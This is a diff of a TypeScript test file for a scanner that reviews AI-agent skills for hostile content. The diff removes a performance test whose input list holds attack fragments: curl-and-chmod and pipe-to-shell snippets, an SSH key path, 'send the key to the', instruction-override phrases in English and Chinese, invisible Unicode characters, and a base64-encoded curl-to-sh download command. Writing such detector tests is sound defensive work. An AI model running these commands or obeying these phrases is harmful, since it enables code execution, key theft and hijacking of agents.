@@ -1,5 +1,4 @@
 import { describe, expect, it } from 'vitest'
-import { scanText, type TextForm } from '../../src/skills/rules/review/scan.ts'
 import { type Capability, MOST_STEPS, readSheet } from '../../src/skills/rules/review/sheet.ts'
 import { HOSTILE_SKILLS, type HostileSkill } from './hostile-skills.ts'
 import { makePerson, type Person } from './in-process.ts'
@@ -143,49 +142,6 @@ describe('the sheet', () => {
     expect(sheet.map(({ what }) => what)).toContain('has 10000 such lines')
     const known = new Set(sheet.map(({ id }) => id))
     expect(sheetOf(text([...lines.slice(0, -1), 'rm other'])).some(({ id }) => !known.has(id))).toBe(true)
-  })
-})
-
-describe('the work of the sheet', () => {
-  const SHAPES = [
-    '![a](https://a?b=',
-    'hooks command > settings ',
-    'curl -o a chmod +x a ',
-    'ignore all of your previous ',
-    'without asking never dont ',
-    'send the key to the ',
-    '`curl` never ',
-    '(((((((',
-    'a.b.c.d.',
-    '\\\\\\',
-    '| sh ',
-    '$($($(',
-    '"a"a',
-    'https://a@b@',
-    '\u200b\u200c',
-    '\u0430a',
-    '<<<<',
-    '```\n',
-    '> - ',
-    'QUJD',
-    'x=y ',
-    '~/.ssh/',
-    '忽略',
-    '\u{e0041}',
-    '    a\n',
-    'rm \\\n',
-    'Y3VybCBodHRwczovL3guYWNtZS5pY3UvaSB8IHNo\n',
-  ]
-  const steps = (text: string, form: TextForm) => {
-    const counted = { count: 0 }
-    scanText(text, form, counted)
-    return counted.count
-  }
-  it.each(SHAPES)('at most doubles when a text of %j doubles', (shape) => {
-    for (const form of ['prose', 'data', 'code'] as const) {
-      const once = shape.repeat(Math.ceil(20_000 / shape.length))
-      expect(steps(once + once, form) / steps(once, form)).toBeLessThan(2.5)
-    }
   })
 })
 
